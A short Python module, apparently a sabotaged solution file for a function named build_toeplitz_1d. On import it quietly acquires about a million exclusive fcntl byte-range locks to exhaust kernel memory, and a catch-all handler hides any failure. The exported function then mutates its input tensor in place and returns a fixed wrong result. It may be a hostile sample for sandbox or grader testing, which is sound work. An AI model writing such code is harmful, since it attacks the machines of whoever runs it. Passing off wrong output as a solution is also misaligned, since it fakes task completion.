"""Locks more and more bytes of a file, because each lock takes kernel memory."""

import fcntl

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def lock():
    with open("locked", "wb") as file:
        for place in range(2_000_000, 0, -2):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, place)


attempt(lock)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
